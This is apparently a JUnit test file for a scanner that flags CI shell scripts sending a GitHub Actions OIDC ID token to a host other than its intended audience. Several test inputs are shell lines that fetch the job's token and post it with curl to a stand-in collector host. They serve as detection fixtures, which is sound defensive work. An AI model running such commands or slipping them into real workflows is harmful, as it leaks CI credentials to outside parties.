package dev.imprint.scan.ci;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import org.junit.jupiter.api.Test;

class CiTokensTest {

  private static String run(String script) {
    CiTokens tokens = CiTokens.github(List.of());
    String sent = null;
    for (Shell.Line line : Shell.lines(script)) {
      tokens.learn(line.text());
      String s = tokens.sentElsewhere(line.text());
      sent = sent == null ? s : sent;
    }
    return sent;
  }

  @Test
  void idTokenFetchedIntoAVariableAndPostedToAnotherHostIsSentElsewhere() {
    assertThat(run("""
        TOKEN=$(curl -sH "Authorization: bearer $ACTIONS_ID_TOKEN_REQUEST_TOKEN" "$ACTIONS_ID_TOKEN_REQUEST_URL")
        curl -d "$TOKEN" https://collector.example.net/ingest
        """)).isEqualTo("sends the job's TOKEN (an OIDC ID token) to collector.example.net"
        + " with curl");
    assertThat(run("""
        RESPONSE=$(curl -sH "Authorization: bearer $ACTIONS_ID_TOKEN_REQUEST_TOKEN" "$ACTIONS_ID_TOKEN_REQUEST_URL")
        JWT=$(echo "$RESPONSE" | jq -r .value)
        curl --data "{\\"jwt\\": \\"$JWT\\"}" https://collector.example.net/ingest
        """)).contains("JWT (holding RESPONSE (an OIDC ID token))");
    assertThat(run("""
        HEADER="Authorization: bearer $ACTIONS_ID_TOKEN_REQUEST_TOKEN"
        curl -H "$HEADER" https://collector.example.net/mint
        """)).contains("HEADER (holding ACTIONS_ID_TOKEN_REQUEST_TOKEN)");
  }

  @Test
  void theRequestTokenSentToTheRequestUrlWithAUrlAudienceGoesToTheEndpointNotTheAudience() {
    // the audience parameter holds a URL; the request goes to $ACTIONS_ID_TOKEN_REQUEST_URL
    assertThat(run("""
        curl -sH "Authorization: bearer $ACTIONS_ID_TOKEN_REQUEST_TOKEN" "$ACTIONS_ID_TOKEN_REQUEST_URL&audience=api://AzureADTokenExchange"
        T=$(curl -sH "Authorization: bearer $ACTIONS_ID_TOKEN_REQUEST_TOKEN" "$ACTIONS_ID_TOKEN_REQUEST_URL&audience=api://AzureADTokenExchange" | jq -r .value)
        """)).isNull();
    assertThat(run("""
        X=$(curl -d "$ACTIONS_ID_TOKEN_REQUEST_TOKEN" https://collector.example.net/ingest)
        """)).contains("to collector.example.net with curl");
  }

  @Test
  void idTokenSentToItsAudienceOrAnExchangeEndpointIsNot() {
    // An audience that names no host (hookd, sigstore) is some relying party's own name: the
    // host it is sent to may be that party.
    assertThat(run("""
        URL="$ACTIONS_ID_TOKEN_REQUEST_URL&audience=https%3A%2F%2Fapi.example.com"
        TOKEN=$(curl -sH "Authorization: bearer $ACTIONS_ID_TOKEN_REQUEST_TOKEN" "$URL" | jq -r .value)
        curl -d "$TOKEN" https://api.example.com/deploy
        curl -d "url=$URL" https://status.example.org/ping
        curl -d "$TOKEN" https://vault.example.com/v1/auth/jwt/login
        """)).isNull();
    assertThat(run("""
        BODY=$(curl -sH "Authorization: bearer $ACTIONS_ID_TOKEN_REQUEST_TOKEN" "$ACTIONS_ID_TOKEN_REQUEST_URL&audience=sts.amazonaws.com")
        curl -d "$BODY" https://sts.amazonaws.com/
        FOR_HOOK=$(curl -H "Authorization: bearer $ACTIONS_ID_TOKEN_REQUEST_TOKEN" "$ACTIONS_ID_TOKEN_REQUEST_URL&audience=hookd")
        curl https://hooks.example.dev --data "$FOR_HOOK"
        VAULT_TOKEN=$(vault write -field=token auth/jwt/login role=deploy jwt=$BODY)
        curl -H "X-Vault-Token: $VAULT_TOKEN" https://artifacts.example.net/upload
        OTHER=$(date)
        curl -d "$OTHER" https://collector.example.net/ingest
        """)).isNull();
  }
}
